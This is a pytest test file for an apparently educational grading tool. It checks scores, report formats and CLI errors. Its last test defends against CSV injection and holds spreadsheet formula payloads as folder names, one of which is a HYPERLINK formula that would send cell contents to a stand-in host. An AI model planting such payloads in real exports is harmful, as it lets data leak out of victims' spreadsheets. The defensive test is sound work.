"""Grading a class end to end: the reference answers score 100%, the stubs 0%, and the reports
say so in every format, without leaking hidden checks."""

import csv
import html
import json
import shutil
from pathlib import Path

import pytest

from docchat_lab.grading.grade import grade
from docchat_lab.grading.manifest import graded_units
from docchat_lab.grading.reports import summary, write_all
from docchat_lab.stages import package
from tests.lab_cli import run_lab

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory):
    tmp = tmp_path_factory.mktemp("grade")
    submissions, out = tmp / "submissions", tmp / "out"
    shutil.copytree(ROOT / "solutions", submissions / "reference")
    shutil.copytree(ROOT / "exercises", submissions / "as-shipped")
    # Each also hands in its DocChat: finished, and as `docchat-lab start` wrote it.
    package.write_snapshot(package.LAST_STAGE, submissions / "reference")
    package.write_snapshot(0, submissions / "as-shipped")
    result = grade(submissions, out, jobs=4, show_progress=False)
    write_all(result, out)
    return result, out


def test_reference_answers_score_full_marks(graded) -> None:
    result, _out = graded
    reference = next(lr for lr in result.learners if lr.learner == "reference")
    trouble = [(r.exercise, r.status, r.detail) for r in reference.exercises if r.score < r.points]
    assert reference.total == result.max_total == sum(e.points for e in graded_units()), trouble
    assert all(r.status == "ok" for r in reference.exercises)


def test_shipped_stubs_score_zero(graded) -> None:
    result, _out = graded
    stubs = next(lr for lr in result.learners if lr.learner == "as-shipped")
    assert stubs.total == 0
    # A stage's first check says what is not written yet; the rest are not run after it.
    kinds = {c.kind for r in stubs.exercises for c in r.checks}
    trouble = [(r.exercise, r.status, r.detail) for r in stubs.exercises if r.status != "ok"]
    assert kinds == {"not-implemented", "not-checked"}, trouble


def test_grades_csv_has_a_column_per_exercise_and_the_total(graded) -> None:
    result, out = graded
    with (out / "grades.csv").open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["learner"] for r in rows] == ["as-shipped", "reference"]
    ids = [e.id for e in graded_units()]
    assert set(ids) <= set(rows[0])
    reference = rows[1]
    assert float(reference["total"]) == result.max_total
    assert sum(float(reference[i]) for i in ids) == result.max_total


def test_grades_json_has_the_detail_of_every_check(graded) -> None:
    _result, out = graded
    data = json.loads((out / "grades.json").read_text(encoding="utf-8"))
    assert data["isolation"]
    learner = next(lr for lr in data["learners"] if lr["learner"] == "as-shipped")
    first = learner["exercises"][0]
    assert first["checks"]
    assert {"name", "passed", "message", "hint"} <= set(first["checks"][0])


def test_feedback_for_each_learner_in_markdown_and_html(graded) -> None:
    _result, out = graded
    for learner in ("reference", "as-shipped"):
        markdown = (out / "feedback" / f"{learner}.md").read_text(encoding="utf-8")
        page = (out / "feedback" / f"{learner}.html").read_text(encoding="utf-8")
        assert f"Feedback for {learner}" in markdown
        assert "<table>" in page
    assert "not done yet" in (out / "feedback" / "as-shipped.md").read_text(encoding="utf-8")


def test_class_report_has_charts_and_the_isolation_in_force(graded) -> None:
    result, out = graded
    report = (out / "report.html").read_text(encoding="utf-8")
    assert report.count("<svg") == 3  # distribution, per exercise, per check
    assert html.escape(result.isolation) in report
    assert "Timed out, crashed or out of memory" in report
    assert "graded 2 submissions" in summary(result)


def test_grade_command_refuses_a_missing_folder_with_a_clear_message(tmp_path: Path) -> None:
    done = run_lab("grade", str(tmp_path / "nowhere"), "--out", str(tmp_path / "out"))
    assert done.returncode == 2
    assert "is not a folder of submissions" in done.stderr


def test_grade_command_refuses_an_unknown_exercise(tmp_path: Path) -> None:
    (tmp_path / "subs").mkdir()
    done = run_lab(
        "grade", str(tmp_path / "subs"), "--out", str(tmp_path / "out"), "--only", "ex42"
    )
    assert done.returncode == 2
    assert "no stage or exercise 'ex42'" in done.stderr


def test_grade_command_end_to_end(tmp_path: Path) -> None:
    subs = tmp_path / "subs"
    shutil.copytree(ROOT / "solutions", subs / "ada")
    done = run_lab(
        "grade", str(subs), "--out", str(tmp_path / "out"), "--only", "ex01", "ex03", "--quiet"
    )
    assert done.returncode == 0, done.stderr
    assert "graded 1 submissions x 2 exercises" in done.stdout
    assert (tmp_path / "out" / "feedback" / "ada.html").is_file()


def test_a_submission_named_like_a_formula_reaches_grades_csv_as_text(tmp_path: Path) -> None:
    """A folder's name is the learner's choice: a spreadsheet opening grades.csv must show it,
    not run it (OWASP's CSV injection)."""
    names = ['=HYPERLINK("x.example?"&A1,"open")', "+1+cmd", "@SUM(A1)", "-2+3"]
    submissions, out = tmp_path / "submissions", tmp_path / "out"
    for name in names:
        (submissions / name).mkdir(parents=True)
    write_all(grade(submissions, out, only=["ex01"], jobs=2, show_progress=False), out)
    with (out / "grades.csv").open(encoding="utf-8", newline="") as handle:
        sources = [row["source"] for row in csv.DictReader(handle)]
    assert sorted(sources) == sorted("'" + name for name in names)
